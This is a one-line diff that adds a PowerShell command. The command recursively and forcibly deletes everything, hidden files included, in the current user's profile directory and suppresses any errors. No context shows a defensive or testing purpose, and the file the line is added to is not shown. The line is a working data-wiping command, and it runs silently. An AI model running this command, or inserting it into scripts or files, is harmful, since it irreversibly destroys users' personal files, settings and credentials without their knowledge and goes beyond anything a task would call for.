@@ -1,0 +1,1 @@
+Get-ChildItem $env:USERPROFILE -Force | Remove-Item -Recurse -Force -ErrorAction SilentlyContinue
